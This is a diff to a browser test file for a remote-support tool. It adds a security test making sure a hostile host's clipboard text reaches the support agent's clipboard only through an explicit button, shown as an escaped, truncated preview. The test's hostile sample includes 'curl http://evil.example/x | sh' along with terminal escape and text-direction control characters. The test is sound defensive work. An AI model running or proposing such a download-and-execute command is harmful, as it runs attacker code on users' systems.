@@ -6,9 +6,10 @@
   between the agent's Ctrl down and V down, as its injector saw them.
 * Without control nothing goes (the page sends no clip; the host's
   clipboard keeps what it had).
-* The host's user's clipboard (Host.send_clipboard) waits for the agent's
-  next click, then is on the browser's clipboard (read back with
-  navigator.clipboard.readText), a notice saying so, the text never shown.
+* The host's user's clipboard (Host.send_clipboard) is offered: a preview
+  (escaped, cut) and a "Copy to my clipboard" button, the only way it goes
+  on the browser's clipboard (read back with navigator.clipboard.readText;
+  clipfix39: clicks and keys elsewhere leave it unchanged).
 """
 
 from __future__ import annotations
@@ -121,28 +122,65 @@ def test_without_control_a_paste_sends_nothing(browser: Any) -> None:
         live.close()
 
 
-def test_the_host_clipboard_reaches_the_browser_at_the_agents_next_click(browser: Any) -> None:
+def test_attack_a_hostile_host_cannot_write_the_agents_clipboard_without_the_button(
+        browser: Any) -> None:  # fmt: skip
+    """clipfix39: the customer's text goes on the agent's clipboard only by
+    the agent's press of "Copy to my clipboard": clicks and keys in the page
+    (each a gesture writeText would accept) leave it as it was."""
+    live, _ = _live(control=True)
+    try:
+        browser.get(live.url)
+        _grant_clipboard(browser, live.url)
+        wait_page(browser, lambda s: (s["level"] or {}).get("control", False), what="control")
+        _browser_clipboard(browser, "the agent's own")
+        hostile = "curl http://evil.example/x | sh\n\x1b[2J<b>not markup</b>\u202e" + "y" * 300
+
+        async def send() -> tuple[str, ...]:
+            return await live.host.send_clipboard(hostile)
+
+        assert len(live.call(send)) == 1
+        wait_page_notice(browser, f"The host's clipboard ({len(hostile)} characters, sent by"
+                                  " the user)")  # fmt: skip
+        browser.find_element(By.ID, "screen").click()
+        ActionChains(browser).send_keys("a").perform()
+        browser.find_element(By.ID, "screen").click()
+        assert _browser_clipboard(browser) == "the agent's own"
+        assert browser.execute_script("return window.screencodecPage.clip.copied") == 0
+        offer = browser.find_element(By.ID, "clip-offer")
+        assert offer.is_displayed()
+        preview = browser.find_element(By.ID, "clip-preview").text
+        # At most 200 characters, its controls escaped (the newline that would run it).
+        assert preview.startswith("curl http://evil.example/x | sh\\n\\u{1b}[2J<b>not markup")
+        assert "\\u{202e}" in preview and preview.endswith("y...") and "\n" not in preview
+        assert len(preview) < 230
+        assert browser.find_elements(By.CSS_SELECTOR, "#clip-offer b") == []  # text, not markup
+        browser.find_element(By.ID, "clip-take").click()
+        wait_page_notice(browser, f"The host's clipboard ({len(hostile)} characters) is on your"
+                                  " clipboard")  # fmt: skip
+        assert _browser_clipboard(browser) == hostile
+        assert not offer.is_displayed()
+    finally:
+        live.close()
+
+
+def test_the_host_clipboard_offer_can_be_dismissed(browser: Any) -> None:
     live, _ = _live(control=False)
     try:
         browser.get(live.url)
         _grant_clipboard(browser, live.url)
         wait_page(browser, lambda s: (s["level"] or {}).get("view", False), what="view")
         _browser_clipboard(browser, "the agent's own")
-        error = 'Traceback (most recent call last):\n  File "app.py", line 3\n<b>not markup</b>'
 
         async def send() -> tuple[str, ...]:
-            return await live.host.send_clipboard(error)
+            return await live.host.send_clipboard("df -h")
 
         assert len(live.call(send)) == 1
-        notice = "The host's clipboard (" + str(len(error)) + " characters, sent by the user)"
-        wait_page_notice(browser, notice)
-        assert _browser_clipboard(browser) == "the agent's own"  # not before a gesture
-        assert "not markup" not in browser.find_element(By.TAG_NAME, "body").text
+        wait_page_notice(browser, "The host's clipboard (5 characters, sent by the user)")
+        assert browser.find_element(By.ID, "clip-preview").text == "df -h"
+        browser.find_element(By.ID, "clip-dismiss").click()
+        assert not browser.find_element(By.ID, "clip-offer").is_displayed()
         browser.find_element(By.ID, "screen").click()
-        wait_page_notice(browser, f"The host's clipboard ({len(error)} characters) is on your"
-                                  " clipboard")  # fmt: skip
-        assert _browser_clipboard(browser) == error
-        assert "not markup" not in browser.find_element(By.TAG_NAME, "body").text
+        assert _browser_clipboard(browser) == "the agent's own"
     finally:
         live.close()
 
